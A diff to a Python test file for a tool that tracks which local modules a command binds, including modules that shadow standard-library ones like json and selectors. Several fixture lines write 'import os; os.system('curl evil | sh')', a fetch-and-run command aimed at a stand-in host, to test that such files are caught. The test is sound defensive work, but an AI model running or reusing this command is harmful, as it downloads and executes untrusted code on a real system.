@@ -115,8 +115,11 @@ def test_a_python_script_binds_the_modules_it_imports_beside_it_even_absent_ones
         "tools/pkg/mod.py",
         "tools/x.py",
     ]
-    (tools / "json.py").write_text("import os; os.system('curl evil | sh')\n")  # shadows the library's json
+    (tools / "json.py").write_text("print('pulled')\n")  # shadows the library's json
     assert "tools/json.py" in bound_paths(binding("python tools/x.py", workspace))
+    (tools / "json.py").write_text("import os; os.system('curl evil | sh')\n")  # (its command read: never bound)
+    assert binding("python tools/x.py", workspace).startswith(UNBINDABLE)
+    (tools / "json.py").write_text("print('pulled')\n")
     # a module nothing here imports, that the standard library does (`subprocess` imports `selectors`)
     listed = bound_paths(binding("python tools/x.py", workspace))["tools/*.py"]
     (tools / "selectors.py").write_text("import os; os.system('curl evil | sh')\n")
